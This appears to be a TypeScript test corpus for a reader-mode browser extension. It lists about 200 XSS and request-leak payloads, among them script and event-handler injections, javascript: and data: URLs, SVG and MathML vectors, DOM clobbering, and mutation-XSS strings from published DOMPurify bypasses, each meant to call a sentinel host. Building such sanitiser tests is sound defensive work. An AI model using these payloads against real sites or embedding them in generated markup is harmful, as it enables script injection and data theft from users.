// The hostile corpus: payloads an article page can carry, each wrapped in a realistic article by ./page.ts.
//
// Sources: DOMPurify's own test cases (test/fixtures/expect.mjs: mXSS variations, DOM clobbering, the
// numbered "//[\"'`-->]]>]" series), the OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger XSS cheat sheet
// (event handlers, SVG/MathML), the published DOMPurify bypasses (namespace confusion with mglyph/malignmark,
// noscript/title/style/textarea rawtext tricks), and vectors of our own for metadata and request leaks.
//
// Tokens, replaced per page by ./page.ts:
//   {JS}   script that, if it ever runs, makes a request to the sentinel host and sets top.__pwned (the request
//          comes first: `top` may be out of reach from an opaque frame). No spaces and no quotes, so it fits
//          quoted and unquoted attributes, script bodies and URLs alike.
//   {URL}  an address on the sentinel host: any request to it is a leak.
//   {IMG}  an image on another host than the page's (an article photo on a CDN): the reader may load it as an
//          image, nothing else, and only the `<img>` itself (never a media, SVG, CSS or frame load).
//   {OWN}  an image on the page's own origin.
//   {CDN}  the CDN's origin.
//   {B64}  base64 of `<script>{JS}</script>`, for data:…;base64 URLs.
//   {ID}   the vector's id.

/** Where the payload goes in the page. */
export type Placement =
  /** Inside the article's text, where Readability keeps it. */
  | 'body'
  /** `<title>`, og:title and the article's `<h1>` (as text). */
  | 'title'
  /** `<meta name="author">` and the visible byline line (as text). */
  | 'byline'
  /** `og:site_name`. */
  | 'site-name'
  /** The page's own summary: meta description and og:description. */
  | 'description'
  /** JSON-LD NewsArticle fields (headline, author, publisher, description), markup escaped as JSON. */
  | 'json-ld'
  /** Raw into `<head>`: affects the page (base URL, refresh, styles), never the article's body. */
  | 'head'
  /** Attributes of `<html>` and `<link rel=canonical>` (lang, dir, canonical address). */
  | 'document';

export type Category =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'svg'
  | 'mathml'
  | 'frame'
  | 'object-embed'
  | 'form'
  | 'base'
  | 'meta'
  | 'link'
  | 'css'
  | 'dom-clobbering'
  | 'mutation-xss'
  | 'media'
  | 'metadata';

export interface Vector {
  id: string;
  category: Category;
  where: Placement;
  payload: string;
  /** Where the vector comes from, or what it probes. */
  note: string;
}

const v = (id: string, category: Category, where: Placement, payload: string, note: string): Vector => ({
  id,
  category,
  where,
  payload,
  note,
});

export const VECTORS: readonly Vector[] = [
  // --- <script> in every form -------------------------------------------------------------------------------
  v('script-plain', 'script', 'body', '<script>{JS}</script>', 'the classic'),
  v('script-src', 'script', 'body', '<script src="{URL}"></script>', 'external script'),
  v('script-upper', 'script', 'body', '<SCRIPT>{JS}</SCRIPT>', 'case'),
  v('script-type-module', 'script', 'body', '<script type="module">{JS}</script>', 'module script'),
  v('script-nested-split', 'script', 'body', '<scr<script>ipt>{JS}</scr</script>ipt>', 'split tag (OWASP)'),
  v('script-svg', 'script', 'body', '<svg><script>{JS}</script></svg>', 'SVG script'),
  v('script-svg-href', 'script', 'body', '<svg><script href="{URL}"></script></svg>', 'SVG script by href'),
  v(
    'script-svg-xlink',
    'script',
    'body',
    '<svg><script xlink:href="data:text/javascript,{JS}"></script></svg>',
    'SVG script by xlink:href data: URL',
  ),
  v(
    'script-xhtml-ns',
    'script',
    'body',
    '<script xmlns="http://www.w3.org/1999/xhtml">{JS}</script>',
    'DOMPurify expect #18',
  ),
  v('script-in-template', 'script', 'body', '<template><script>{JS}</script></template>', 'template content'),
  v(
    'script-comment-break',
    'script',
    'body',
    '<!--<script>--><script>{JS}</script><!--</script>-->',
    'comment confusion',
  ),
  v('script-noscript', 'script', 'body', '<noscript><script>{JS}</script></noscript>', 'inside noscript'),
  v(
    'script-listing-escaped',
    'script',
    'body',
    '<listing>&lt;script&gt;{JS}&lt;/script&gt;</listing>',
    'escaped text in listing, must stay text',
  ),

  // --- event-handler attributes -------------------------------------------------------------------------------
  v('img-onerror', 'event-handler', 'body', '<img src="x" onerror="{JS}" alt="a">', 'the classic'),
  v('img-onerror-unquoted', 'event-handler', 'body', '<img src=x onerror={JS}>', 'unquoted attribute'),
  v('img-onerror-slash', 'event-handler', 'body', '<img/src="x"/onerror="{JS}">', 'slashes as separators'),
  v('img-onload-own', 'event-handler', 'body', '<img src="{OWN}" onload="{JS}" alt="b">', 'fires on a real image'),
  v('svg-onload', 'event-handler', 'body', '<svg onload="{JS}"></svg>', 'SVG onload'),
  v('svg-g-onload', 'event-handler', 'body', '<svg><g onload="{JS}"></g></svg>', 'DOMPurify expect #11'),
  v('body-onload', 'event-handler', 'body', '<body onload="{JS}">', 'a second body tag'),
  v(
    'details-ontoggle',
    'event-handler',
    'body',
    '<details open ontoggle="{JS}"><summary>More</summary>x</details>',
    'fires on insertion',
  ),
  v('input-onfocus-autofocus', 'event-handler', 'body', '<input autofocus onfocus="{JS}">', 'DOMPurify expect #7'),
  v('textarea-onfocus', 'event-handler', 'body', '<textarea autofocus onfocus="{JS}">x</textarea>', 'autofocus'),
  v(
    'select-onfocus',
    'event-handler',
    'body',
    '<select autofocus onfocus="{JS}"><option>a</option></select>',
    'autofocus',
  ),
  v('video-source-onerror', 'event-handler', 'body', '<video><source onerror="{JS}"></video>', 'media error'),
  v('audio-onerror', 'event-handler', 'body', '<audio src="x" onerror="{JS}"></audio>', 'media error'),
  v('marquee-onstart', 'event-handler', 'body', '<marquee onstart="{JS}">news</marquee>', 'legacy element'),
  v(
    'div-onmouseover',
    'event-handler',
    'body',
    '<div onmouseover="{JS}" style="position:fixed;inset:0">x</div>',
    'needs the pointer',
  ),
  v('p-onclick', 'event-handler', 'body', '<p onclick="{JS}">Click this paragraph.</p>', 'needs a click'),
  v(
    'a-onfocus-tabindex',
    'event-handler',
    'body',
    '<a id="x" tabindex="1" onfocus="{JS}" autofocus>focus</a>',
    'autofocus on a link',
  ),
  v('style-onload', 'event-handler', 'body', '<style onload="{JS}">p{}</style>', 'style element onload'),
  v(
    'img-onerror-entities',
    'event-handler',
    'body',
    '<img src=x onerror="&#x6e;ew(Image)().src=`{URL}`;top.__pwned=1">',
    'entity-encoded handler',
  ),
  v(
    'img-unknown-attrs',
    'event-handler',
    'body',
    '<div wow=removeme onmouseover={JS}>text</div>',
    'DOMPurify "unknown attributes III"',
  ),
  v(
    'animation-onanimationstart',
    'event-handler',
    'body',
    '<p style="animation:x 1s" onanimationstart="{JS}">animated</p>',
    'fires without interaction when a keyframe exists',
  ),
  v('body-onpageshow', 'event-handler', 'body', '<body onpageshow="{JS}">', 'window event on body'),

  // --- javascript: URLs ----------------------------------------------------------------------------------------
  v('a-href-javascript', 'javascript-url', 'body', '<a href="javascript:{JS};void(0)">read more</a>', 'the classic'),
  v('a-href-javascript-case', 'javascript-url', 'body', '<a href="JaVaScRiPt:{JS};void(0)">read more</a>', 'case'),
  v(
    'a-href-javascript-tab',
    'javascript-url',
    'body',
    '<a href="jav&#x09;ascript:{JS};void(0)">read more</a>',
    'tab entity (OWASP)',
  ),
  v(
    'a-href-javascript-newline',
    'javascript-url',
    'body',
    '<a href="jav&#x0A;ascript:{JS};void(0)">read more</a>',
    'newline entity',
  ),
  v(
    'a-href-javascript-decimal',
    'javascript-url',
    'body',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{JS};void(0)">read more</a>',
    'decimal entities (OWASP)',
  ),
  v(
    'a-href-javascript-colon-entity',
    'javascript-url',
    'body',
    '<a href="javascript&colon;{JS};void(0)">read more</a>',
    '&colon;',
  ),
  v(
    'a-href-javascript-leading-space',
    'javascript-url',
    'body',
    '<a href=" &#x2028;javascript:{JS};void(0)">read more</a>',
    'Unicode line separator (DOMPurify)',
  ),
  v(
    'a-href-javascript-control',
    'javascript-url',
    'body',
    '<a href="&#x01;java&#x03;script:{JS};void(0)">read more</a>',
    'low-range control characters (DOMPurify)',
  ),
  v('a-href-vbscript', 'javascript-url', 'body', '<a href="vbscript:msgbox(1)">read more</a>', 'old IE scheme'),
  v('img-src-javascript', 'javascript-url', 'body', '<img src="javascript:{JS}">', 'DOMPurify "JavaScript URI src"'),
  v(
    'svg-a-xlink-javascript',
    'javascript-url',
    'body',
    '<svg><a xlink:href="javascript:{JS};void(0)"><text x="10" y="20">tap</text></a></svg>',
    'SVG link',
  ),
  v(
    'math-href-javascript',
    'javascript-url',
    'body',
    '<math href="javascript:{JS};void(0)"><mi>x</mi></math>',
    'MathML href',
  ),
  v(
    'area-href-javascript',
    'javascript-url',
    'body',
    '<map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:{JS};void(0)"></map><img usemap="#m" src="{OWN}" alt="map">',
    'image map',
  ),
  v(
    'base-relative-javascript',
    'javascript-url',
    'body',
    '<base href="javascript://"><a href="/. /,{JS}//#">XXX</a>',
    'DOMPurify expect #42',
  ),
  v(
    'table-background-javascript',
    'javascript-url',
    'body',
    '<table background="javascript:{JS}"><tr><td>cell</td></tr></table>',
    'DOMPurify expect #32',
  ),
  v(
    'blockquote-cite-javascript',
    'javascript-url',
    'body',
    '<blockquote cite="javascript:{JS}">A quote from the mayor.</blockquote>',
    'cite attribute',
  ),

  // --- data: URLs ----------------------------------------------------------------------------------------------
  v(
    'a-href-data-html',
    'data-url',
    'body',
    '<a href="data:text/html,<script>{JS}</script>">open</a>',
    'data: HTML link',
  ),
  v(
    'a-href-data-base64',
    'data-url',
    'body',
    '<a href="data:text/html;base64,{B64}">open</a>',
    'base64 data: HTML link',
  ),
  v(
    'img-src-data-svg-script',
    'data-url',
    'body',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{JS}%22/>" alt="d">',
    'SVG in an image: must never script',
  ),
  v(
    'img-src-data-html',
    'data-url',
    'body',
    '<img src="data:text/html,<script>{JS}</script>" alt="e">',
    'HTML in an image',
  ),
  v('a-href-data-uppercase', 'data-url', 'body', '<a href="DATA:text/html,<script>{JS}</script>">open</a>', 'case'),
  v(
    'object-data-url',
    'data-url',
    'body',
    '<object data="data:text/html;base64,{B64}"></object>',
    'object with data: HTML',
  ),
  v('embed-data-svg', 'data-url', 'body', '<embed src="data:image/svg+xml;base64,{B64}">', 'embed with data:'),

  // --- SVG -----------------------------------------------------------------------------------------------------
  v(
    'svg-animate-href',
    'svg',
    'body',
    '<svg><a><animate attributeName="href" values="javascript:{JS}" /><text x="10" y="20">tap</text></a></svg>',
    'animate a link into javascript:',
  ),
  v('svg-set-onmouseover', 'svg', 'body', '<svg><set attributeName="onmouseover" to="{JS}" /></svg>', 'set a handler'),
  v(
    'svg-foreignobject-img',
    'svg',
    'body',
    '<svg><foreignObject><img src="x" onerror="{JS}"></foreignObject></svg>',
    'HTML inside SVG',
  ),
  v(
    'svg-image-external',
    'svg',
    'body',
    '<svg width="10" height="10"><image href="{URL}" width="10" height="10" /></svg>',
    'SVG image from the network',
  ),
  v(
    'svg-feimage',
    'svg',
    'body',
    '<svg><filter id="f"><feImage href="{URL}" /></filter><rect width="9" height="9" filter="url(#f)" /></svg>',
    'filter that loads an image',
  ),
  v('svg-use-external', 'svg', 'body', '<svg><use href="{URL}#a" /></svg>', 'external use'),
  v('svg-use-data', 'svg', 'body', '<svg><use href="data:image/svg+xml;base64,{B64}#a" /></svg>', 'data: use'),
  v('svg-style-import', 'svg', 'body', '<svg><style>@import url({URL});</style></svg>', 'SVG style'),
  v(
    'svg-handler-animate-onbegin',
    'svg',
    'body',
    '<svg><animate onbegin="{JS}" attributeName="x" dur="1s" /></svg>',
    'SMIL onbegin',
  ),
  v(
    'svg-presentation-url',
    'svg',
    'body',
    '<svg width="9" height="9"><rect width="9" height="9" fill="url({URL}#g)" stroke="url({URL}#s)" mask="url({URL}#m)" filter="url({URL}#f)" clip-path="url({URL}#c)" marker-end="url({URL}#e)" /></svg>',
    'presentation attributes that reference another document',
  ),
  v(
    'svg-cursor',
    'svg',
    'body',
    '<svg><cursor href="{URL}" /><rect cursor="url({URL}),auto" width="9" height="9" /></svg>',
    'SVG cursor',
  ),
  v(
    'svg-cdata-img',
    'svg',
    'body',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror={JS}//"></svg>',
    'DOMPurify CDATA case',
  ),

  // --- MathML --------------------------------------------------------------------------------------------------
  v(
    'math-maction-javascript',
    'mathml',
    'body',
    '<math><maction actiontype="statusline" xlink:href="javascript:{JS}">x<mtext>y</mtext></maction></math>',
    'maction link',
  ),
  v('math-mtext-img', 'mathml', 'body', '<math><mtext><img src="x" onerror="{JS}"></mtext></math>', 'HTML in mtext'),
  v(
    'math-annotation-xml',
    'mathml',
    'body',
    '<math><annotation-xml encoding="text/html"><img src="x" onerror="{JS}"></annotation-xml></math>',
    'HTML integration point',
  ),
  v(
    'math-style-img',
    'mathml',
    'body',
    '<math><style><img src=x onerror={JS}></style></math>',
    'style in MathML parses as elements',
  ),

  // --- frames ---------------------------------------------------------------------------------------------------
  v('iframe-src', 'frame', 'body', '<iframe src="{URL}"></iframe>', 'frame to the sentinel'),
  v('iframe-srcdoc', 'frame', 'body', '<iframe srcdoc="<script>{JS}</script>"></iframe>', 'srcdoc'),
  v('iframe-javascript', 'frame', 'body', '<iframe src="javascript:{JS}"></iframe>', 'javascript: frame'),
  v('iframe-data', 'frame', 'body', '<iframe src="data:text/html;base64,{B64}"></iframe>', 'data: frame'),
  v(
    'iframe-youtube-lookalike',
    'frame',
    'body',
    '<iframe src="{URL}?www.youtube.com/embed/x" width="560" height="315"></iframe>',
    'passes a naive video allowlist',
  ),
  v('frameset-onload', 'frame', 'body', '<frameset onload="{JS}">', 'DOMPurify expect #31'),
  v('portal', 'frame', 'body', '<portal src="{URL}"></portal>', 'portal element'),
  v('fencedframe', 'frame', 'body', '<fencedframe src="{URL}"></fencedframe>', 'fenced frame'),

  // --- object / embed / applet -----------------------------------------------------------------------------------
  v('object-data', 'object-embed', 'body', '<object data="{URL}" type="text/html"></object>', 'object to the sentinel'),
  v('object-javascript', 'object-embed', 'body', '<object data="javascript:{JS}"></object>', 'javascript: object'),
  v(
    'object-param',
    'object-embed',
    'body',
    '<object><param name="src" value="{URL}"><param name="movie" value="{URL}"></object>',
    'params',
  ),
  v('embed-src', 'object-embed', 'body', '<embed src="{URL}" type="image/svg+xml">', 'embed'),
  v('applet', 'object-embed', 'body', '<applet code="x" codebase="{URL}"></applet>', 'legacy applet'),

  // --- forms ----------------------------------------------------------------------------------------------------
  v(
    'form-action-javascript',
    'form',
    'body',
    '<form action="javasc&#10;ript:{JS}"><button>Subscribe</button></form>',
    'DOMPurify form case',
  ),
  v(
    'button-formaction',
    'form',
    'body',
    '<form id="f1"></form><button form="f1" formaction="javascript:{JS}">X</button>',
    'DOMPurify formaction case',
  ),
  v(
    'form-action-sentinel',
    'form',
    'body',
    '<form action="{URL}" method="post"><input name="q" value="1"><button>Send</button></form>',
    'submits to the sentinel',
  ),
  v('input-image', 'form', 'body', '<input type="image" src="{URL}" alt="go">', 'image input loads its src'),
  v('isindex', 'form', 'body', '<isindex action="javascript:{JS}" type="image" src="{URL}">', 'legacy isindex'),
  v('button-onclick', 'form', 'body', '<button onclick="{JS}" autofocus>Read</button>', 'button handler'),

  // --- <base> ----------------------------------------------------------------------------------------------------
  v(
    'base-body-sentinel',
    'base',
    'body',
    '<base href="{URL}/"><a href="relative-link">related</a>',
    'base inside the article',
  ),
  v(
    'base-head-cdn',
    'base',
    'head',
    '<base href="{CDN}/img/">',
    "base in the head: the page's relative photos and links are on another host, for the page and the reader alike",
  ),
  v('base-head-javascript', 'base', 'head', '<base href="javascript:{JS}//">', 'a javascript: base for relative links'),
  v('base-target', 'base', 'body', '<base target="_top"><a href="https://example.org/">x</a>', 'base target'),

  // --- <meta http-equiv> -----------------------------------------------------------------------------------------
  v(
    'meta-refresh-body',
    'meta',
    'body',
    '<meta http-equiv="refresh" content="0;url={URL}">',
    'refresh from the article',
  ),
  v(
    'meta-refresh-javascript',
    'meta',
    'body',
    '<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    'refresh to javascript:',
  ),
  v(
    'meta-refresh-data',
    'meta',
    'body',
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64}">',
    'refresh to data:',
  ),
  v(
    'meta-csp-weakening',
    'meta',
    'body',
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`,
    'a CSP that tries to loosen things',
  ),
  v('meta-set-cookie', 'meta', 'body', '<meta http-equiv="Set-Cookie" content="pwned=1">', 'cookie via meta'),
  v(
    'meta-refresh-head',
    'meta',
    'head',
    '<meta http-equiv="refresh" content="0;url={URL}">',
    'page-level refresh (the page leaves; the sentinel answers 204)',
  ),
  v(
    'meta-charset-utf7',
    'meta',
    'body',
    '<div><meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi</div>',
    'DOMPurify expect #2',
  ),

  // --- <link> ----------------------------------------------------------------------------------------------------
  v('link-import', 'link', 'body', '<link rel="import" href="{URL}">', 'HTML imports'),
  v('link-stylesheet', 'link', 'body', '<link rel="stylesheet" href="{URL}">', 'stylesheet'),
  v('link-prefetch', 'link', 'body', '<link rel="prefetch" href="{URL}">', 'prefetch'),
  v('link-preload', 'link', 'body', '<link rel="preload" as="image" href="{URL}">', 'preload'),
  v('link-modulepreload', 'link', 'body', '<link rel="modulepreload" href="{URL}">', 'module preload'),
  v('link-head-stylesheet', 'link', 'head', '<link rel="stylesheet" href="{URL}">', 'page-level stylesheet'),
  v('a-ping', 'link', 'body', '<a href="https://example.org/" ping="{URL}">source</a>', 'ping on click'),

  // --- CSS -------------------------------------------------------------------------------------------------------
  v(
    'style-attr-background-url',
    'css',
    'body',
    '<p style="background:url({URL})">Styled paragraph with a background.</p>',
    'style attribute url()',
  ),
  v(
    'style-attr-expression',
    'css',
    'body',
    '<p style="width:expression({JS})">Old IE expression.</p>',
    'CSS expression()',
  ),
  v('style-attr-behavior', 'css', 'body', '<p style="behavior:url({URL})">behavior</p>', 'IE behavior'),
  v('style-attr-moz-binding', 'css', 'body', '<p style="-moz-binding:url({URL}#x)">binding</p>', 'XBL binding'),
  v('style-import', 'css', 'body', '<style>@import "{URL}";</style>', '@import'),
  v('style-background', 'css', 'body', '<style>p{background-image:url("{URL}")}</style>', 'rule with url()'),
  v(
    'style-font-face',
    'css',
    'body',
    '<style>@font-face{font-family:x;src:url({URL})}p{font-family:x}</style>',
    'web font',
  ),
  v(
    'style-img-breakout',
    'css',
    'body',
    '<style><img src="</style><img src=x onerror={JS}//">',
    'DOMPurify expect #40',
  ),
  v(
    'style-expression-import',
    'css',
    'body',
    '<style>@import "data:,*%7bx:expression({JS})%7D";</style>',
    'DOMPurify expect #30',
  ),
  v(
    'style-list-style-url',
    'css',
    'body',
    '<ul><li style="list-style:url({URL})">item</li></ul>',
    'DOMPurify expect #41',
  ),
  v('style-content-url', 'css', 'body', '<p style="content:url({URL})">content</p>', 'content: url()'),
  v('style-head-background', 'css', 'head', '<style>body{background:url({URL})}</style>', 'page-level style'),
  v(
    'td-background',
    'css',
    'body',
    '<table><tr><td background="{URL}">Results by district.</td></tr></table>',
    'background attribute',
  ),

  // --- DOM clobbering ----------------------------------------------------------------------------------------------
  v('clobber-id-proto', 'dom-clobbering', 'body', '<p id="__proto__">Clobbering the prototype.</p>', 'id="__proto__"'),
  v(
    'clobber-name-attributes',
    'dom-clobbering',
    'body',
    '<img src="{OWN}" name="attributes" alt="c">',
    'name="attributes"',
  ),
  v(
    'clobber-form-input-attributes',
    'dom-clobbering',
    'body',
    '<form onmouseover="{JS}"><input name="attributes"><input name="attributes"></form>',
    'DOMPurify: form + input name=attributes',
  ),
  v(
    'clobber-form-parentnode',
    'dom-clobbering',
    'body',
    '<div onclick="{JS}"><form onsubmit="{JS}"><input onfocus="{JS}" name="parentNode">123</form></div>',
    'DOMPurify: name=parentNode',
  ),
  v(
    'clobber-form-parentelement',
    'dom-clobbering',
    'body',
    '<div><form onsubmit="{JS}"><input onfocus="{JS}" name="parentElement"><input name="nextElementSibling">123</form></div>',
    'the element count walks the live page: a form whose parentElement is its own control',
  ),
  v(
    'clobber-form-copy-walk',
    'dom-clobbering',
    'body',
    '<div><form onsubmit="{JS}"><input name="firstChild"><input name="nextSibling"><input name="parentNode"><script>{JS}</script>Inside the form.</form></div>',
    'the copy of the page walks up from each script and down its ancestors: a form in the way whose tree properties are its controls',
  ),
  v(
    'clobber-document-clonenode',
    'dom-clobbering',
    'body',
    '<img src="{OWN}" name="cloneNode" alt="c"><img src="{OWN}" name="importNode" alt="i">',
    "names that shadow the document's own copying methods (the page's and the copy's)",
  ),
  v(
    'clobber-getelementbyid',
    'dom-clobbering',
    'body',
    '<img src="{OWN}" name="getElementById" alt="g">',
    'DOMPurify: getElementById',
  ),
  v(
    'clobber-location',
    'dom-clobbering',
    'body',
    '<a href="#some-code-here" id="location">invisible</a>',
    'DOMPurify: location',
  ),
  v('clobber-cookie', 'dom-clobbering', 'body', '<img src="{OWN}" name="cookie" alt="k">', 'DOMPurify: cookie'),
  v(
    'clobber-body-activeelement',
    'dom-clobbering',
    'body',
    '<image name="body"><image name="activeElement"><svg onload="{JS}"></svg>',
    'DOMPurify: name=body, activeElement',
  ),
  v(
    'clobber-our-globals',
    'dom-clobbering',
    'body',
    '<a id="clearReader" name="__clearReaderOptions">a</a><a id="__clearReaderViewData">b</a><a id="__clearReaderViewController">c</a>',
    "the extension's own global names",
  ),
  v(
    'clobber-sentinel-name',
    'dom-clobbering',
    'body',
    '<a id="__clobbered" href="#x">anchor</a><form name="__clobbered"></form>',
    'an id the tests watch on extension pages',
  ),
  v(
    'clobber-defaultview',
    'dom-clobbering',
    'body',
    '<img src="{OWN}" id="defaultView" name="createElement" alt="v">',
    'document.defaultView / createElement',
  ),

  // --- mutation XSS -------------------------------------------------------------------------------------------------
  v(
    'mxss-mglyph-style',
    'mutation-xss',
    'body',
    '<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mtext></math>',
    'DOMPurify 2.0.17 bypass',
  ),
  v(
    'mxss-form-math',
    'mutation-xss',
    'body',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}></style></mglyph></form></mtext></math>',
    'DOMPurify 2.0.0 bypass (Bentkowski)',
  ),
  v(
    'mxss-svg-p-style',
    'mutation-xss',
    'body',
    '<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    'svg/p style confusion',
  ),
  v(
    'mxss-mglyph-svg-textarea',
    'mutation-xss',
    'body',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={JS} src=1>"></textarea></mtext></svg></mglyph></mi></math>',
    'mglyph/svg/textarea',
  ),
  v(
    'mxss-malignmark',
    'mutation-xss',
    'body',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={JS}>"></style></mtext></svg></mglyph></h1></mtext></math>',
    'malignmark family',
  ),
  v(
    'mxss-noscript-title',
    'mutation-xss',
    'body',
    '<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    'noscript parsed with scripting on and off',
  ),
  v(
    'mxss-noscript-comment',
    'mutation-xss',
    'body',
    '<b><noscript><!-- </noscript><img src=x onerror={JS} --></noscript>',
    'DOMPurify noscript comment',
  ),
  v(
    'mxss-listing',
    'mutation-xss',
    'body',
    '<listing>&lt;img onerror="{JS};//" src=x&gt;<t t></listing>',
    'DOMPurify "mXSS Variation I"',
  ),
  v('mxss-id-slash', 'mutation-xss', 'body', "<img src=x id/=' onerror={JS}//'>", 'DOMPurify "mXSS Variation II"'),
  v(
    'mxss-textarea-comment',
    'mutation-xss',
    'body',
    '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror={JS}>-->',
    'DOMPurify textarea/comment',
  ),
  v(
    'mxss-comment-attr',
    'mutation-xss',
    'body',
    '<!--<img src="--><img src=x onerror={JS}//">',
    'DOMPurify expect #37',
  ),
  v(
    'mxss-title-in-svg',
    'mutation-xss',
    'body',
    '<svg><title><img src=x onerror={JS}></title></svg>',
    'title text in SVG vs HTML',
  ),
  v('mxss-xmp', 'mutation-xss', 'body', '<xmp><img src=x onerror={JS}></xmp>', 'rawtext xmp'),
  v(
    'mxss-option-style',
    'mutation-xss',
    'body',
    '<option><style></option></select><b><img src=x onerror={JS}></style></option>',
    'DOMPurify option/style',
  ),
  v(
    'mxss-template-nested',
    'mutation-xss',
    'body',
    '<template><s><template><s><img src=x onerror={JS}>@shafigullin</s></template></s></template>',
    'DOMPurify nested template',
  ),
  v(
    'mxss-select-template',
    'mutation-xss',
    'body',
    '<select><template><style><img src=x onerror={JS}></style></template></select>',
    'customizable select parsing',
  ),
  v(
    'mxss-svg-desc-style',
    'mutation-xss',
    'body',
    '<svg><desc><style><img src=x onerror={JS}></style></desc></svg>',
    'SVG integration point',
  ),
  v(
    'mxss-double-encoded',
    'mutation-xss',
    'body',
    '<p>&amp;lt;img src=x onerror={JS}&amp;gt;</p>',
    'double-encoded markup must stay text',
  ),

  // --- images and media (requests) -----------------------------------------------------------------------------------
  v(
    'img-srcset-foreign',
    'media',
    'body',
    '<img src="{OWN}" srcset="{IMG} 1x, {IMG}?2 2x" alt="srcset">',
    'srcset to another host',
  ),
  v(
    'img-srcset-javascript',
    'media',
    'body',
    '<img src="{OWN}" srcset="javascript:{JS} 1x" alt="js srcset">',
    'srcset with javascript:',
  ),
  v(
    'picture-source',
    'media',
    'body',
    '<picture><source srcset="{URL}" media="(min-width: 1px)"><img src="{OWN}" alt="picture"></picture>',
    'picture source to the sentinel',
  ),
  v('video-poster', 'media', 'body', '<video poster="{URL}" controls></video>', 'poster image'),
  v('video-src', 'media', 'body', '<video src="{URL}" autoplay muted></video>', 'video src'),
  v(
    'video-source-src',
    'media',
    'body',
    '<video controls><source src="{URL}" type="video/mp4"><track src="{URL}" default kind="captions"></video>',
    'source and track',
  ),
  v('audio-autoplay', 'media', 'body', '<audio src="{URL}" autoplay></audio>', 'audio autoplay'),
  v(
    'img-lowsrc-dynsrc',
    'media',
    'body',
    '<img src="{OWN}" lowsrc="{URL}" dynsrc="{URL}" longdesc="{URL}" alt="legacy">',
    'legacy image attributes',
  ),
  v(
    'img-foreign-src',
    'media',
    'body',
    '<figure><img src="{IMG}" alt="A photo hosted on a CDN"><figcaption>Photo from the wire.</figcaption></figure>',
    'an ordinary CDN photo',
  ),
  v(
    'img-lazy-data-src',
    'media',
    'body',
    '<img src="{OWN}" data-src="{URL}" data-srcset="{URL} 2x" alt="lazy">',
    'lazy-loading attributes a reader might promote',
  ),
  v(
    'noscript-img-unwrap',
    'media',
    'body',
    '<noscript><img src="{OWN}" onerror="{JS}" alt="noscript"></noscript>',
    'Readability unwraps noscript images',
  ),
  v(
    'svg-image-own',
    'media',
    'body',
    '<svg width="20" height="20"><image href="{OWN}" width="20" height="20" onload="{JS}" /></svg>',
    'SVG image with a handler',
  ),

  // --- metadata inserted as text -------------------------------------------------------------------------------------
  v('title-img', 'metadata', 'title', '<img src=x onerror="{JS}">Budget vote', 'markup in the title'),
  v('title-script', 'metadata', 'title', '</title><script>{JS}</script>', 'closing the title'),
  v('title-svg', 'metadata', 'title', '<svg onload={JS}> Mayor wins', 'SVG in the title'),
  v('byline-img', 'metadata', 'byline', '<img src=x onerror="{JS}"> Jane Doe', 'markup in the byline'),
  v('byline-a-javascript', 'metadata', 'byline', '<a href="javascript:{JS}">Jane</a>', 'a link in the byline'),
  v('site-name-img', 'metadata', 'site-name', '<img src=x onerror="{JS}">Daily Planet', 'markup in og:site_name'),
  v(
    'site-name-style',
    'metadata',
    'site-name',
    '<style>*{background:url({URL})}</style>Gazette',
    'style in og:site_name',
  ),
  v(
    'description-img',
    'metadata',
    'description',
    '<img src=x onerror="{JS}"> The council voted on Tuesday.',
    'markup in the description',
  ),
  v(
    'description-iframe',
    'metadata',
    'description',
    '<iframe srcdoc="<script>{JS}</script>"></iframe> Summary text.',
    'iframe in the description',
  ),
  v('json-ld-headline', 'metadata', 'json-ld', '<img src=x onerror="{JS}">Headline', 'JSON-LD fields with markup'),
  v(
    'json-ld-script-breakout',
    'metadata',
    'json-ld',
    '</script><script>{JS}</script>',
    'breaking out of the JSON-LD script',
  ),
  v(
    'document-lang',
    'metadata',
    'document',
    '"><img src=x onerror="{JS}">',
    'markup in lang, dir and the canonical link',
  ),
  v('document-canonical-javascript', 'metadata', 'document', 'javascript:{JS}', 'javascript: canonical address'),
];
